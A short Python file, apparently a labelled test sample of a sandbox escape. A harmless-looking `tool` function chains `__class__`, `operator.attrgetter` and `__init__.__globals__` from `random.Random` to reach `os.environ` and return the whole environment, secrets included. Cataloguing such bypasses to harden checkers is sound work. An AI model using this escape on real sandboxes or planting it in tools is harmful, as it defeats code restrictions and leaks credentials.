# family: computed
# Escape: x.__class__ is allowed as an operand (comparisons, subscript indexes). As the index of a tool object whose
# __getitem__ returns its key, it yields the attrgetter class; that class follows run-time attribute paths, here
# "__init__.__globals__" from random.Random into random's globals and os.environ.
import operator
import random


class Echo:
    def __getitem__(self, key):
        return key


def tool(word: str = "globals") -> str:
    probe = operator.attrgetter("real")
    getter = Echo()[probe.__class__]
    return str(getter("__init__.__" + word + "__")(random.Random())["_os"].environ)
